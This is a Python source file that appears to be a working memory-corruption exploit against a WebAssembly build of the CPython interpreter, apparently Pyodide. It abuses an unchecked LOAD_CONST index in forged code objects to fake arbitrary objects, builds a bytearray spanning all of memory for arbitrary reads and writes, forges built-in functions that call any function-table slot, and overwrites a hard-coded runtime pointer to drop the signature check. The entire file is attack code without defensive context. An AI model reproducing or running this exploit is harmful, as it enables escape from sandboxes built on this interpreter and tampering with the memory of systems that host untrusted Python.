# Reads and writes all of the interpreter's memory and calls any function of its
# table, with nothing but code objects: LOAD_CONST does not check its index, so
# a constant "outside" co_consts is any pointer in memory, taken for an object.
import struct
import types


def _f():
    pass


_kept = []  # Forged objects live in these bytes: they must not be freed.


def address_of_bytes(data):
    _kept.append(data)
    return id(data) + 16  # Past refcount, type, size, hash: wasm32.


def object_at(address):
    """Return the object whose header an attacker wrote at `address`."""
    slot = address_of_bytes(struct.pack("<I", address))
    consts = (None, "forged")
    _kept.append(consts)
    probe = _f.__code__.replace(co_consts=consts)
    index = (slot - (id(probe.co_consts) + 12)) // 4 & 0xFFFFFFFF
    code = bytes([151, 0])  # RESUME
    for shift in (24, 16, 8):
        code += bytes([144, index >> shift & 255])  # EXTENDED_ARG
    code += bytes([100, index & 255, 83, 0])  # LOAD_CONST, RETURN_VALUE
    forged = probe.replace(co_code=code)
    assert id(forged.co_consts) == id(probe.co_consts)
    return types.FunctionType(forged, {})()


# A bytearray of 2 GiB that begins at address 0: the whole memory.
memory = object_at(
    address_of_bytes(
        struct.pack(
            "<IIiiIIi", 1 << 20, id(bytearray), 0x7FFFFFFF, 0x7FFFFFFF, 0, 0, 0
        )
    )
)


def read32(address):
    return int.from_bytes(memory[address : address + 4], "little")


def write32(address, value):
    memory[address : address + 4] = struct.pack("<I", value & 0xFFFFFFFF)


def text_at(text):
    """Return the address of a C string."""
    return address_of_bytes(text.encode() + b"\0")


def slot_of(builtin):
    """Return where in the function table a built-in function's C code is."""
    return read32(read32(id(builtin) + 8) + 4)


def builtin_at(slot, first=0, flags=0x04):
    """Return a built-in that calls table slot `slot` with `first` as self."""
    # Each calling convention has a vectorcall of its own: take a real one's.
    # METH_NOARGS passes (self, NULL), METH_O passes (self, argument).
    model = {0x04: globals, 0x08: hash}[flags]
    method = address_of_bytes(
        struct.pack("<IIiI", text_at("forged"), slot, flags, 0)
    )
    vectorcall = read32(id(model) + 24)
    return object_at(
        address_of_bytes(
            struct.pack(
                "<IIIIIII", 1 << 20, id(type(len)), method, first, 0, 0, vectorcall
            )
        )
    )



# _PyRuntime's pointer to the function that looks at a callee's signature before
# a built-in is called. Without it, 0.27.7 calls through JavaScript, which adapts
# the arguments to any signature at all.
_COUNT_ARGS = 3250160


def drop_signature_check():
    if 6649 <= read32(_COUNT_ARGS) < 1 << 16:
        write32(_COUNT_ARGS, 0)
